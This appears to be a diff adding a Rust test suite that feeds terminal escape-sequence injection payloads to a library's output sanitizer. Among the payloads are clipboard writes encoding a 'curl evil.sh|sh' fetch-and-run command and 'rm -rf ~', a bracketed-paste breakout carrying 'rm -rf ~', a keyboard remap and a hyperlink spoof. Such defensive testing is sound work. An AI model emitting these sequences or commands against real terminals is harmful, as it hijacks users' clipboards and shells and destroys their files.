@@ -0,0 +1,149 @@
+//! Terminal injection payloads against the sanitizer.
+//!
+//! Each payload below has been used, in public advisories and writeups, to
+//! make a terminal do something other than show text: write the clipboard,
+//! answer back with attacker-chosen input, end a bracketed paste early,
+//! rewrite what is already on screen, or change the title and read it
+//! back. Under [`Policy::Strict`] none of them may leave a control
+//! character in the output, the text around them must survive, and
+//! legitimate text must pass through untouched.
+
+use luxor::{
+    Console, ConsoleOptions, Measurable, RenderOptions, Text,
+    sanitize::{self, Policy},
+};
+use std::borrow::Cow;
+
+/// A payload: what it attempts, and the bytes.
+type Payload = (&'static str, &'static str);
+
+/// Known payloads, with what each one attempts.
+const PAYLOADS: &[Payload] = &[
+    (
+        "OSC 52 clipboard write, BEL",
+        "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",
+    ),
+    ("OSC 52 clipboard write, ST", "\x1b]52;p;cm0gLXJmIH4=\x1b\\"),
+    ("OSC 52 clipboard read", "\x1b]52;c;?\x07"),
+    ("title set then report", "\x1b]2;;rm -rf ~\x07\x1b[21t"),
+    ("icon name set", "\x1b]1;\x1b[A\x07"),
+    ("DCS capability query", "\x1bP+q544e\x1b\\"),
+    ("DCS status request", "\x1bP$q\"p\x1b\\"),
+    ("APC graphics", "\x1b_Gf=100,a=T;AAAA\x1b\\"),
+    ("PM string", "\x1b^private\x1b\\"),
+    ("SOS string", "\x1bXstart of string\x1b\\"),
+    ("OSC 1337 file", "\x1b]1337;File=inline=1:AAAA\x07"),
+    (
+        "hyperlink spoof",
+        "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\",
+    ),
+    ("bracketed paste end", "\x1b[201~rm -rf ~\n\x1b[200~"),
+    ("C1 CSI clear screen", "\u{9b}2J"),
+    ("C1 OSC clipboard", "\u{9d}52;c;eA==\u{9c}"),
+    ("C1 DCS", "\u{90}+q544e\u{9c}"),
+    ("C1 single shift", "\u{8e}x\u{8f}y"),
+    ("carriage return overwrite", "safe\r\x1b[2Kevil"),
+    ("cursor up and erase", "\x1b[1A\x1b[2K"),
+    ("clear and home", "\x1b[2J\x1b[H"),
+    ("mouse reporting", "\x1b[?1000h\x1b[?1006h"),
+    ("keyboard remap", "\x1b[0;\"rm -rf ~\";13p"),
+    ("device attributes", "\x1b[c\x1b[>c"),
+    ("full reset", "\x1bc"),
+    ("screen alignment", "\x1b#8"),
+    ("line drawing charset", "\x1b(0lqqk\x1b(B"),
+    ("unterminated OSC", "\x1b]0;never ends"),
+    ("bell, backspace and NUL", "\x07\x08\x08\x00"),
+    ("delete", "x\x7f"),
+];
+
+/// Text that must come through exactly as it is.
+const LEGITIMATE: &[&str] = &[
+    "plain ASCII, with punctuation: [](){}<>!?",
+    "emoji 😀 👩‍👩‍👧 🇯🇵 ❤️ 👍🏽",
+    "CJK 漢字かなカナ 한국어",
+    "tabs\tbetween\tcolumns",
+    "lines\nand more lines\n",
+    "combining e\u{301} and zero\u{200d}width joiner",
+    "right to left مرحبا שלום",
+    "box drawing ┌─┐ and blocks ▁▂▃█",
+];
+
+/// Control characters other than newline and tab in `text`.
+fn controls(text: &str) -> Vec<char> {
+    text.chars()
+        .filter(|&ch| ch.is_control() && ch != '\n' && ch != '\t')
+        .collect()
+}
+
+#[test]
+fn strict_neutralizes_every_payload() {
+    let mut failures = Vec::new();
+    for (name, payload) in PAYLOADS {
+        let input = format!("before{payload}after");
+        let output = sanitize::sanitize(&input, Policy::Strict);
+        if !controls(&output).is_empty() {
+            failures.push(format!("{name}: controls left in {output:?}"));
+        }
+        // An unterminated string swallows the rest, as it would on screen
+        if !output.starts_with("before")
+            || (!name.contains("unterminated") && !output.ends_with("after"))
+        {
+            failures.push(format!("{name}: surrounding text lost in {output:?}"));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
+
+#[test]
+fn standard_shows_every_payload_as_text() {
+    for (name, payload) in PAYLOADS {
+        let output = sanitize::sanitize(payload, Policy::Standard);
+        assert!(controls(&output).is_empty(), "{name}: {output:?}");
+        assert_eq!(
+            output.chars().count(),
+            payload.chars().count(),
+            "{name}: characters are replaced one for one"
+        );
+    }
+}
+
+#[test]
+fn legitimate_text_passes_through() {
+    for text in LEGITIMATE {
+        for policy in [Policy::Strict, Policy::Standard] {
+            let output = sanitize::sanitize(text, policy);
+            assert!(matches!(output, Cow::Borrowed(_)), "{policy:?}: {text:?}");
+        }
+    }
+}
+
+#[test]
+fn console_output_carries_no_payload() {
+    let options = ConsoleOptions::new()
+        .with_color(false)
+        .with_max_width(200)
+        .with_sanitize(Policy::Strict);
+    let console = Console::with_options(options);
+    for (name, payload) in PAYLOADS {
+        let line = format!("name {payload} end");
+        let output = console
+            .capture(|console| console.print(Text::new(&line)))
+            .unwrap();
+        assert!(controls(&output).is_empty(), "{name}: {output:?}");
+    }
+}
+
+#[test]
+fn widths_are_measured_after_sanitizing() {
+    let console = Console::new();
+    let options = RenderOptions::new().with_sanitize(Policy::Strict);
+    for (name, payload) in PAYLOADS {
+        let input = format!("ab{payload}");
+        let shown = sanitize::sanitize(&input, Policy::Strict);
+        let text = Text::new(&input);
+        let measurement = text.measure(&console, &options).unwrap();
+        assert_eq!(measurement.maximum(), Text::new(&shown).width(), "{name}");
+        let own = text.with_sanitize(Policy::Strict);
+        assert_eq!(own.width(), Text::new(&shown).width(), "{name}");
+    }
+}